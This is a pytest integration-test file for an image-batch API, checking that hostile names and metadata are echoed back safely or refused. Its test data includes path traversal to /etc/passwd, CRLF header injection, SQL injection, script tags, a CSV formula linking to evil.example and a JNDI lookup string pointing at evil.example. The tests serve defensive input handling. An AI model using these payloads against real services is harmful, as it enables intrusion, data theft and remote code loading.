"""Names and metadata that mean something elsewhere come back as they were sent, or are refused with a sentence."""

import csv
import io
import json
import re
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
import urllib3
from sqlalchemy import text

from shared.db.session import Database
from tests.integration.api.conftest import Hands
from tests.integration.conftest import Api, assert_problem

TAKEN = (
    "../../etc/passwd",
    "/absolute.jpg",
    "..\\..\\windows\\system.ini",
    "line\nbreak.jpg",
    "a\r\nX-Evil: yes\r\n\r\n<b>.jpg",
    "%0d%0aX-Evil:%20yes.jpg",
    "photo\u202egpj.exe",
    "\u2066hidden\u2069.jpg",
    "🌿🍃 Ñandú 葉.jpg",
    "'; DROP TABLE jobs; --.jpg",
    '" OR ""="',
    "<script>alert(1)</script>.jpg",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1)",
    "{{7*7}}${jndi:ldap://evil.example}%s%n",
    "\x01\x1b[31mred\x7f.jpg",
    " leading and trailing ",
    "x" * 512,
)
REFUSED = ("nul\0byte.jpg", "x" * 10_000, "")
# Half of a surrogate pair: JSON can say it, no database can store it.
HALF = '{"name": "half \\ud800"}'


@pytest.fixture
def hostile(api: Api, hands: Hands) -> str:
    """A job that ran, whose images and metadata are called badly."""
    job_id = api.new_job(name=TAKEN[4], metadata=dict(zip(TAKEN, reversed(TAKEN), strict=True)))
    images = [{"name": name, "size": 4, "metadata": {"note": name, name[:64]: 1}} for name in TAKEN]
    answer = api.post(f"/v1/jobs/{job_id}/images", {"images": images})
    assert answer.status == 200, answer.data
    assert [image["name"] for image in answer.json()["images"]] == list(TAKEN)
    api.commit(job_id)
    hands.run(job_id)
    return job_id


def test_names_and_metadata_come_back_as_they_were_sent(api: Api, hostile: str) -> None:
    job = api.get(f"/v1/jobs/{hostile}").json()
    assert job["name"] == TAKEN[4]
    assert job["metadata"] == dict(zip(TAKEN, reversed(TAKEN), strict=True))
    results = api.get(f"/v1/jobs/{hostile}/results?limit=100").json()["results"]
    assert sorted(result["name"] for result in results) == sorted(TAKEN)


def test_a_name_is_no_part_of_an_object_key(api: Api) -> None:
    job_id = api.new_job()
    for image in api.add(job_id, *TAKEN):
        assert urlsplit(image["upload"]["url"]).path == f"/phytobatch/uploads/{job_id}/{image['seq']:08d}"


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_a_name_is_refused_and_nothing_is_taken(api: Api, name: str, database: Database) -> None:
    assert_problem(api.post("/v1/jobs", {"name": name}), 422, "invalid-request")
    job_id = api.new_job()
    page = {"images": [{"name": "good.jpg", "size": 1}, {"name": name, "size": 1}]}
    assert_problem(api.post(f"/v1/jobs/{job_id}/images", page), 422, "invalid-request")
    with database.begin() as session:
        taken = session.execute(text("SELECT count(*) FROM images WHERE job_id = :id"), {"id": job_id}).scalar_one()
    assert taken == 0


def test_half_a_character_is_refused(api: Api) -> None:
    answer = api.request("POST", "/v1/jobs", body=HALF, headers={"Content-Type": "application/json"})
    assert_problem(answer, 422, "invalid-request")


def multipart(name: bytes) -> tuple[bytes, dict[str, str]]:
    """A body whose file name stands there as browsers write it (WHATWG HTML, multipart/form-data)."""
    quoted = name.replace(b'"', b"%22").replace(b"\r", b"%0D").replace(b"\n", b"%0A")
    head = b'--edge\r\nContent-Disposition: form-data; name="files"; filename="' + quoted + b'"\r\n'
    body = head + b"Content-Type: image/jpeg\r\n\r\nleaf\r\n--edge--\r\n"
    return body, {"Content-Type": "multipart/form-data; boundary=edge"}


def upload(api: Api, name: str) -> urllib3.BaseHTTPResponse:
    body, headers = multipart(name.encode())
    return api.request("POST", "/v1/jobs/upload", body=body, headers=headers)


def test_multipart_names_come_back_as_they_came(api: Api, hands: Hands) -> None:
    """Browsers write a quote and a line break as %22, %0D and %0A, and nothing else of it."""
    for name in TAKEN:
        answer = upload(api, name)
        assert answer.status == 202, (name, answer.data)
        job_id = answer.json()["id"]
        hands.run(job_id)
        (result,) = api.get(f"/v1/jobs/{job_id}/results").json()["results"]
        assert result["name"] == name


@pytest.mark.parametrize("name", [b"x" * 10_000, b"", b"\x81\x8d.jpg"])
def test_multipart_names_that_cannot_be_one_are_refused(api: Api, name: bytes) -> None:
    body, headers = multipart(name)
    assert_problem(api.request("POST", "/v1/jobs/upload", body=body, headers=headers), 422, "invalid-request")


def test_a_line_break_in_a_part_cannot_make_a_header(api: Api) -> None:
    head = b'--edge\r\nContent-Disposition: form-data; name="files"; filename="a\r\nX-Evil: yes"\r\n\r\n'
    body = head + b"leaf\r\n--edge--\r\n"
    answer = api.request(
        "POST", "/v1/jobs/upload", body=body, headers={"Content-Type": "multipart/form-data; boundary=edge"}
    )
    assert_problem(answer, 422, "invalid-request")
    assert "X-Evil" not in answer.headers


CODECS = ("unicode_escape", "utf-7", "undefined", "idna", "rot13", "utf-16", "no such", "a" * 3000)


@pytest.mark.parametrize("charset", CODECS)
def test_no_client_chooses_a_codec_of_python(api: Api, charset: str) -> None:
    """Whatever a Content-Type says of its charset: an answer or a sentence, never a fault."""
    of_a_part = (
        f'--edge\r\nContent-Disposition: form-data; name="name"\r\nContent-Type: text/plain; charset="{charset}"'
    )
    text_part = of_a_part.encode() + b"\r\n\r\n\\ud800+2D0-\r\n"
    file = b'--edge\r\nContent-Disposition: form-data; name="files"; filename="a"\r\n\r\nleaf\r\n--edge--\r\n'
    form = {"Content-Type": f'multipart/form-data; charset="{charset}"; boundary=edge'}
    answer = api.request("POST", "/v1/jobs/upload", body=text_part + file, headers=form)
    assert_problem(answer, 422, "invalid-request")
    assert api.request("POST", "/v1/jobs/upload", body=file, headers=form).status == 202
    job_id = api.new_job()
    api.add(job_id, "a.jpg")
    for method, path, kind, body in (
        ("POST", "/v1/jobs", "application/json", b'{"name": "+2D0-"}'),
        ("PUT", f"/v1/jobs/{job_id}/sidecar", "text/csv", b"filename,latitude,longitude\na.jpg,1,1\n"),
        ("POST", f"/v1/jobs/{job_id}/corrections", "text/csv", b"name,label\na.jpg,rust\n"),
    ):
        sent = {"Content-Type": f'{kind}; charset="{charset}"'}
        assert api.request(method, path, body=body, headers=sent).status in {200, 201}, path


def test_a_sidecar_finds_images_by_any_name(api: Api) -> None:
    job_id = api.new_job()
    names = [name for name in TAKEN if name.strip() == name]
    api.add(job_id, *names)
    written = io.StringIO()
    writer = csv.writer(written)
    writer.writerow(["filename", "latitude", "longitude", "note"])
    writer.writerows([name, 41.5, 0.5, name] for name in names)
    answer = api.request(
        "PUT", f"/v1/jobs/{job_id}/sidecar", body=written.getvalue().encode(), headers={"Content-Type": "text/csv"}
    )
    assert answer.status == 200, answer.data
    report = answer.json()
    # A table has its line ends read as one kind, so a name with the other kind is not found, and the answer says so.
    assert [line["name"] for line in report["unmatched"]] == [n.replace("\r\n", "\n") for n in names if "\r" in n]
    assert report["matched"] == len(names) - 1


@pytest.mark.parametrize("kind", ["ndjson", "csv", "geojson", "kml", "parquet", "shapefile", "geoparquet"])
def test_no_export_is_broken_by_a_name(api: Api, hostile: str, kind: str) -> None:
    answer = api.get(f"/v1/jobs/{hostile}/export?format={kind}")
    assert answer.status == 200
    _check_header(answer.headers["Content-Disposition"])
    assert "X-Evil" not in answer.headers
    if kind == "ndjson":
        rows = [json.loads(line) for line in answer.data.decode().split("\n") if line]
        assert sorted(row["name"] for row in rows) == sorted(TAKEN)
    if kind == "csv":
        _check_cells(answer.data)


def _check_header(value: str) -> None:
    assert re.fullmatch(r"[\x20-\x7e]+", value)
    for name in re.findall(r"filename\*?=(?:UTF-8'')?\"?([^\";]+)", value):
        plain = unquote(name)
        assert not re.search(r"[/\\<>:|?*\r\n\x00-\x1f\u202a-\u202e]", plain), plain
        assert not plain.startswith(".")


def _check_cells(data: bytes) -> None:
    rows: list[list[Any]] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(TAKEN) + 1
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@", "\t", "\r"))]


@pytest.mark.parametrize(
    "query",
    ["label=' OR 1=1 --", "status=' OR 1=1 --", "after=' OR 1=1", "label=%00", "limit=1;DROP TABLE jobs", "place='"],
)
def test_queries_are_values_and_no_sql(api: Api, hostile: str, query: str) -> None:
    answer = api.get(f"/v1/jobs/{hostile}/results?{query.replace(' ', '%20')}")
    if answer.status == 200:
        assert answer.json()["results"] == []
    else:
        assert_problem(answer, 422, "invalid-request")


@pytest.mark.parametrize("sent", ["a%0d%0aX-Evil: yes", "x" * 300, "<script>"])
def test_a_request_id_that_is_none_is_not_repeated(api: Api, sent: str) -> None:
    answer = api.get("/v1/jobs", headers={"X-Request-Id": sent})
    assert re.fullmatch(r"[0-9a-f]{16}", answer.headers["X-Request-Id"])
    assert "X-Evil" not in answer.headers
